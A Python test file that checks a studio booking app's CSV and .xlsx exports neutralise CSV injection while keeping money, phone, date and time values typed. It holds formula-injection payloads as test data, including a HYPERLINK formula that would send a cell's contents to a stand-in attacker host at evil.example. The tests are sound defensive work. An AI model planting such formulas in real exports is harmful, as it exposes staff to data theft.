"""The tables the staff download: every text cell neutralised (OWASP's CSV-injection rule) in the CSV and the .xlsx,
typed values kept typed."""

import csv
import io
import shutil
import subprocess
from datetime import date, datetime, time
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from studio.spreadsheets import CellType, Column, csv_cell, neutralise, table_csv, table_xlsx

COLUMNS = [
    Column("Nom"),
    Column("Montant (€)", CellType.MONEY),
    Column("Téléphone", CellType.PHONE),
    Column("Code postal", CellType.CODE),
    Column("Le", CellType.DATE),
    Column("À", CellType.TIME),
    Column("Places", CellType.INTEGER),
]
AT = datetime(2026, 4, 2, 16, 30, tzinfo=ZoneInfo("UTC"))  # 18:30 in Paris


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def read_xlsx(content: bytes):
    return list(openpyxl.load_workbook(io.BytesIO(content)).worksheets[0].iter_rows())


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", " =1+1", "\n =1", "\u00a0@A1"]
)
def test_a_text_a_spreadsheet_would_evaluate_gets_a_single_quote_first(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Zoé", "25 €", "a=b", "", "'déjà", "#N/A", " Zoé", "   "])
def test_other_texts_are_kept(text):
    assert neutralise(text) == text


def test_the_same_row_in_both_formats():
    rows = [["-Remise", Decimal("-12.50"), "0612345678", "01000", AT, AT, 2]]
    assert read_csv(table_csv(COLUMNS, rows))[1] == [
        "'-Remise",
        "-12,50",
        "06 12 34 56 78",
        "01000",
        "02/04/2026",
        "18:30",
        "2",
    ]
    [_, row] = read_xlsx(table_xlsx(COLUMNS, rows, title="Essai"))
    assert [c.value for c in row] == [
        "'-Remise",
        -12.5,
        "0612345678",
        "01000",
        datetime(2026, 4, 2),
        time(18, 30),
        2,
    ]
    assert [c.data_type for c in row] == ["s", "n", "s", "s", "d", "d", "n"]
    assert row[1].number_format.startswith("#,##0.00") and "€" in row[1].number_format
    assert row[2].number_format == row[3].number_format == "@"


def test_an_error_value_or_a_control_character_stays_a_plain_text_cell():
    rows = [["#N/A", None, "", "", date(2026, 4, 2), None, None], ["Zo\x07é\x00", None, "", "", None, None, None]]
    [_, first, second] = read_xlsx(table_xlsx(COLUMNS, rows, title="Essai: [1/2]?"))
    assert (first[0].value, first[0].data_type) == ("#N/A", "s")
    assert second[0].value == "Zoé"
    assert read_csv(table_csv(COLUMNS, rows))[2][0] == "Zoé"


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed on this machine")
def test_libreoffice_opens_the_csv_with_french_settings_and_evaluates_nothing(tmp_path):
    """The real LibreOffice Calc, French import (fr-FR, « ; », UTF-8, special numbers detected, formulas evaluated)."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
    rows = [
        [hostile, Decimal("-12.50"), "0612345678", "", AT, AT, 2],
        ["+33 6", Decimal("25"), "", "", AT, AT, 1],
        ["  =1+1", None, "", "", None, None, None],
    ]
    source = tmp_path / "export.csv"
    source.write_text(table_csv(COLUMNS, rows), encoding="utf-8")
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            "--infilter=CSV:59,34,76,1,,1036,false,true,false,false,true",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path / "out"),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    [_, first, second, third] = read_xlsx((tmp_path / "out" / "export.xlsx").read_bytes())
    assert all(c.data_type != "f" for c in first + second + third)
    assert first[0].value == "'" + hostile and second[0].value == "'+33 6" and third[0].value == "'  =1+1"
    assert (first[1].value, second[1].value) == (-12.5, 25)
    assert first[2].value == "06 12 34 56 78"
    assert first[4].value == datetime(2026, 4, 2)


class CountedInstant(datetime):
    """An instant that counts its time-zone conversions."""

    conversions = 0

    def astimezone(self, tz=None):
        CountedInstant.conversions += 1
        return datetime(*self.timetuple()[:6], self.microsecond, tzinfo=self.tzinfo).astimezone(tz)


def _class_rows(count: int):
    """Rows of a class export: the class's start in a date and a time column, the same instant read again (another
    object) for each booking of the class."""
    starts = [AT, datetime(2026, 4, 3, 8, 15, tzinfo=ZoneInfo("UTC"))]
    return [
        [
            f"Membre {i}",
            Decimal("12.50"),
            "",
            "",
            CountedInstant.fromtimestamp(start.timestamp(), start.tzinfo),
            None,
            i,
        ]
        for i, start in enumerate(starts * count)
    ]


@pytest.mark.parametrize("write", [table_csv, lambda columns, rows: table_xlsx(columns, rows, title="Essai")])
def test_each_instant_is_converted_to_paris_time_once_per_table(write):
    rows = _class_rows(10)
    for row in rows:
        row[5] = row[4]
    CountedInstant.conversions = 0
    write(COLUMNS, rows)
    assert CountedInstant.conversions == 2


def test_the_csv_is_the_cells_as_csv_cell_writes_them():
    """Whatever the table reuses from one cell to the next, every cell is the one `csv_cell` writes on its own."""
    values = {
        CellType.TEXT: ["=1+1", "Zoé", "", None, 1, True, "#N/A", "a\x00b"],
        CellType.MONEY: [Decimal("-12.5"), Decimal("0"), 3, "", None, Decimal("1.005")],
        CellType.PHONE: ["0612345678", "+33612345678", "", None, "06 12"],
        CellType.CODE: ["01000", "", None, 75001],
        CellType.DATE: [AT, date(2026, 4, 2), datetime(2026, 3, 28, 23, 30, tzinfo=ZoneInfo("UTC")), None, ""],
        CellType.TIME: [AT, time(9, 5, 30), datetime(2026, 3, 29, 1, 0, 59, tzinfo=ZoneInfo("UTC")), None],
        CellType.INTEGER: [0, 2, True, "", None, Decimal("3")],
    }
    columns = [c for c in COLUMNS]
    rows = [[values[c.type][(i + j) % len(values[c.type])] for j, c in enumerate(columns)] for i in range(40)]
    expected = [[neutralise(c.header) for c in columns]] + [
        [csv_cell(c, value) for c, value in zip(columns, row, strict=True)] for row in rows
    ]
    assert read_csv(table_csv(columns, rows)) == expected
